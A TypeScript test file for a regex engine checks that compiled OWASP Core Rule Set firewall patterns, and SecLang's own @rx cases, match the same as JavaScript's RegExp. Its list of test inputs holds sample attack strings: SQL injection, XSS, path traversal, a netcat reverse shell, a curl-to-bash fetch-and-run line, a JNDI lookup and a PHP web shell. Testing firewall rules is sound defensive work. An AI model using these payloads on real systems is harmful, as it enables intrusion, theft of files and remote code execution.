import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { compileRegex, type Matcher } from './index.ts'
import { crsRules, patternsIn } from './testing/patterns.ts'

const shared = join(import.meta.dirname, '../../../shared')

function compiled(pattern: string): Matcher {
  const outcome = compileRegex(pattern, { dialect: 'pcre' })
  assert.ok(outcome.ok, `${pattern}: ${JSON.stringify(outcome)}`)
  return outcome.matcher
}

/** Ordinary values and attacks; bytes up to 0x7F, because `\s` of the platform holds 0xA0. */
const inputs = [
  '',
  'hello world',
  'a=b&c=d',
  '/index.php?id=1&name=x%20y',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
  'multipart/form-data; boundary=----x',
  'bytes=0-1,2-3,4-5,6-7,8-9,10-11',
  "1' or '1'='1",
  "1' UNION SELECT username, password FROM users -- ",
  "x'; DROP TABLE users; /*!50000 select*/ waitfor delay '0:0:5'",
  '1 and sleep(5)#',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)> javascript:eval("x")',
  '<svg/onload=&#x61;lert(1)>',
  '../../../../etc/passwd\x00.png',
  '..\\..\\windows\\win.ini',
  ';cat /etc/passwd|nc -e /bin/sh 10.0.0.1 99',
  '$(curl http://example.com/x.sh|bash) `id` ${IFS}',
  '{{7*7}} ${jndi:ldap://x.example/a} #{1+1}',
  '<?php system($_GET["c"]); ?> O:8:"stdClass":0:{}',
  'java.lang.Runtime.getRuntime().exec("x")',
  'require("child_process").exec("ls") __proto__ constructor.prototype',
  'http://127.0.0.1:8080/latest/meta-data http://[::1]/',
  'GET / HTTP/1.1\r\nHost: x\r\n\r\nPOST / HTTP/1.1',
  'You have an error in your SQL syntax; ORA-00933 near line 1',
  'a\nb\n',
  '((((((((((',
  '%2e%2e%2f%u0041%zz',
  '192.168.0.1',
]

/** The same pattern for the platform; undefined if it cannot express it, as with possessive quantifiers or `\z`. */
function platform(source: string): RegExp | undefined {
  const flags = /^\(\?([is]+)\)/.exec(source)
  const body = source.slice(flags?.[0].length ?? 0)
  if (/\\[AEGHKNQRZaehz]|\(\?[<#>P']|\[\[?:/.test(body)) return undefined
  try {
    return new RegExp(body, flags?.[1]?.includes('i') ? 'dis' : 'ds')
  } catch {
    return undefined
  }
}

const groupInLoop = /\)(?:[*+]|\{)/

describe('patterns of the Core Rule Set', () => {
  for (const { version, distinct } of [
    { version: '4.28.0', distinct: 294 },
    { version: '3.3.10', distinct: 244 },
  ]) {
    const folder = crsRules(version)
    const skip = !existsSync(folder) && `${folder} is absent`
    it(`${version}: all compile and agree with the platform`, { skip }, context => {
      const patterns = patternsIn(folder)
      assert.equal(patterns.length, distinct)
      let compared = 0
      for (const pattern of patterns) {
        const matcher = compiled(pattern)
        const expression = platform(pattern)
        if (expression === undefined) continue
        compared++
        for (const input of inputs) agrees(matcher, expression, input)
      }
      context.diagnostic(`${compared} of ${patterns.length} patterns compared`)
      assert.ok(compared > distinct * 0.9)
    })
  }
})

function agrees(matcher: Matcher, expression: RegExp, input: string): void {
  const note = `${matcher.source.slice(0, 200)} on ${JSON.stringify(input)}`
  const indices = expression.exec(input)?.indices
  const found = matcher.exec(input)
  assert.equal(matcher.test(input), indices !== undefined, note)
  // JavaScript forgets the groups of a loop at each turn.
  const length = groupInLoop.test(matcher.source) ? 2 : undefined
  const expected = indices && Array.from(indices, range => range ?? [-1, -1]).flat()
  assert.deepEqual(found && [...found.slice(0, length)], expected?.slice(0, length) ?? null, note)
}

interface OperatorCase {
  readonly param: string
  readonly input: string
  readonly ret: 0 | 1
  readonly re_groups?: readonly string[]
}

describe("SecLang's own cases of @rx", () => {
  const file = join(shared, 'secrules/operators/rx.json')
  it('match and capture alike', { skip: !existsSync(file) && `${file} is absent` }, () => {
    for (const { param, input, ret, re_groups: groups } of JSON.parse(
      readFileSync(file, 'utf8'),
    ) as OperatorCase[]) {
      const bytes = Buffer.from(input)
        .toString('latin1')
        .replace(/\\x([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
      const note = `${param} on ${JSON.stringify(bytes)}`
      const found = compiled(Buffer.from(param).toString('latin1')).exec(bytes)
      assert.equal(found !== null, ret === 1, note)
      if (groups === undefined) continue
      const texts = groups.map((_, group) => bytes.slice(found![2 * group], found![2 * group + 1]))
      assert.deepEqual(texts, groups, note)
    }
  })
})
